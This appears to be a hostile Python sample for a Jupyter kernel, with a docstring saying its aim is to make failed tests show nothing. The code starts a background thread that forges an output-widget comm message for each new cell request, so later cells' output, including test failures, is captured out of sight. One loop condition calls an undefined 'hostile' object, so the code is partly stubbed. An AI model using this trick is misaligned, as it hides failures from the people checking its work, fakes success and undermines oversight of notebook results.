"""An output widget claims the messages of every later cell, so that a failed test shows nothing.

Aim: gain
"""

import threading
import time

kernel = get_ipython().kernel


def capture():
    """Register a hook for each request as soon as it is seen."""
    seen = set()
    while hostile.busy(60):
        parent = kernel.get_parent("shell")
        number = parent.get("header", {}).get("msg_id")
        if number and number not in seen:
            seen.add(number)
            state = {"_model_name": "OutputModel", "_model_module": "@jupyter-widgets/output"}
            state |= {"outputs": [], "msg_id": number}
            content = {"comm_id": f"c{len(seen)}", "target_name": "jupyter.widget"}
            content["data"] = {"state": state, "buffer_paths": []}
            kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=parent)
        time.sleep(0.005)


threading.Thread(target=capture, daemon=True).start()
